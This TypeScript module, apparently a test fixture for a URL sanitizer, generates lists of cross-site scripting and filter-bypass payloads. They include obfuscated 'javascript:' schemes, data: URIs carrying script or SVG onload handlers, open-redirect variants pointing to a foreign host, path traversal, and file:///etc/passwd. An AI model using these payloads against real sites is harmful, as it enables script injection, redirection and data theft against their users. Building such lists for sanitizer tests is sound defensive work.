import { FOREIGN, RUN } from './piezas.ts';

const SCHEME = 'javascript';
const at = (text: string, index: number, put: string) => text.slice(0, index) + put + text.slice(index);
const each = (text: string, change: (letter: string, index: number) => string) =>
  [...text].map((letter, index) => change(letter, index)).join('');

/** Blanks and signs that browsers drop inside or before a scheme, and some that they do not. */
const DROPPED = [
  '\t',
  '\n',
  '\r',
  '\r\n',
  '\f',
  '\u0001',
  '\u001f',
  '\u0000',
  ' ',
  '\u00a0',
  '\u00ad',
  '\u200b',
  '\u200e',
  '\u202e',
  '\u2028',
  '\u3000',
  '\ufeff',
  '/**/',
];
const DROPPED_ENTITIES = [
  '&Tab;',
  '&NewLine;',
  '&#9;',
  '&#10;',
  '&#13;',
  '&#x9;',
  '&#x0A;',
  '&#0000009;',
  '&#x00000a',
  '&shy;',
  '&zwnj;',
  '&#0;',
  '&#1;',
  '&nbsp;',
];

/** One way to write `javascript:` after another. */
function schemes(): string[] {
  return [
    SCHEME,
    SCHEME.toUpperCase(),
    each(SCHEME, (letter, i) => (i % 2 ? letter.toUpperCase() : letter)),
    'vbscript',
    'livescript',
    'mocha',
    'jscript',
    'vbs',
    'feed:javascript',
    'view-source:javascript',
    'jar:javascript',
    'about:javascript',
    'javascrıpt',
    'ｊavascript',
    'javaſcript',
    'java\u017fcript',
    ...DROPPED.flatMap((sign) => [sign + SCHEME, at(SCHEME, 4, sign), SCHEME + sign]),
    ...DROPPED_ENTITIES.flatMap((entity) => [entity + SCHEME, at(SCHEME, 4, entity), SCHEME + entity]),
    each(SCHEME, (letter) => `&#${letter.charCodeAt(0)};`),
    each(SCHEME, (letter) => `&#${letter.charCodeAt(0)}`),
    each(SCHEME, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`),
    each(SCHEME, (letter) => `&#X000${letter.charCodeAt(0).toString(16).toUpperCase()}`),
    each(SCHEME, (letter) => `&#000000${letter.charCodeAt(0)};`),
    each(SCHEME, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
    each(SCHEME, (letter) => `\\u00${letter.charCodeAt(0).toString(16)}`),
    each(SCHEME, (letter) => `\\${letter.charCodeAt(0).toString(16)} `),
    each(SCHEME, (letter) => `${letter}\t`),
    each(SCHEME, (letter) => `${letter}&#x0A;`),
  ];
}

const COLONS = [':', '&colon;', '&#58;', '&#x3a', '&#0058;', '%3a', '：', '\t:', ' :'];

/** Addresses that run something when they are followed or loaded. */
export const RUNNING_ADDRESSES: readonly string[] = [
  ...schemes().map((scheme) => `${scheme}:${RUN}`),
  ...COLONS.map((colon) => `${SCHEME}${colon}${RUN}`),
  ...[
    '//%0a',
    '//%0d%0a',
    '//\u2028',
    '/*--></title></style>*/',
    '"+',
    "'-",
    '`-',
    '\\u0061lert(983)//',
    'void(0);',
    '%61lert(983)//',
    '&#97;lert(983)//',
    `{${RUN}}//`,
    '(_=>',
    'https://a.ar/%0a',
    '//a.ar/?\n',
  ].map((lead) => `${SCHEME}:${lead}${RUN}`),
];

const HTML_OF_DATA = `<script>${RUN}</script>`;
const BASE64_OF_DATA = btoa(HTML_OF_DATA);
const SVG_OF_DATA = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`;

/** Addresses that carry their own content, or lead where nothing of the site may lead by itself. */
export const CARRYING_ADDRESSES: readonly string[] = [
  `data:text/html,${HTML_OF_DATA}`,
  `data:text/html;base64,${BASE64_OF_DATA}`,
  `DATA:text/html;charset=utf-7,+ADw-script+AD4-${RUN}`,
  `data:,${HTML_OF_DATA}`,
  `data:application/xhtml+xml,${HTML_OF_DATA}`,
  `data:image/svg+xml,${encodeURIComponent(SVG_OF_DATA)}`,
  `data:image/svg+xml;base64,${btoa(SVG_OF_DATA)}`,
  `data:text/xml,${HTML_OF_DATA}`,
  `data:text/javascript,${RUN}`,
  `data:text/css,*{background:url(//${FOREIGN}/)}`,
  `dat\ta:text/html,${HTML_OF_DATA}`,
  `&#100;ata:text/html,${HTML_OF_DATA}`,
  'data:image/gif;base64,R0lGODlhAQABAAAAACw=',
  `//${FOREIGN}/x`,
  `\\\\${FOREIGN}\\x`,
  `/\\${FOREIGN}/x`,
  `/\t/${FOREIGN}/x`,
  `\t//${FOREIGN}/x`,
  `/%09/${FOREIGN}/x`,
  `///${FOREIGN}/x`,
  `http:${FOREIGN}/x`,
  `https:/${FOREIGN}/x`,
  `https:\\\\${FOREIGN}/x`,
  `ftp://${FOREIGN}/x`,
  `file:///etc/passwd`,
  `blob:https://${FOREIGN}/1`,
  `filesystem:https://${FOREIGN}/1`,
  `ws://${FOREIGN}/`,
  `intent://${FOREIGN}/#Intent;end`,
  `ms-word:ofe|u|https://${FOREIGN}/`,
  'chrome://settings',
  `view-source:https://${FOREIGN}`,
  `/uploads/../../${FOREIGN}`,
  `/uploads/1.jpg?//${FOREIGN}`,
  '/uploads/1.svg#x',
  '/uploads/%2e%2e/rest/user',
];
